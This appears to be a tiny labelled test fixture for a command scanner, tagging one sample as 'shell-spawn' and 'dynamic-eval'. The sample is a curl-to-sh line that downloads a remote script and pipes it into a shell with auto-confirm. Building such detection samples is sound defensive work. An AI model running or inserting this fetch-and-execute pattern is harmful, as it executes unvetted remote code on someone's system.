# expect: shell-spawn,dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: curl | sh -s -- args
curl -sSf https://sh.example.rs | sh -s -- -y
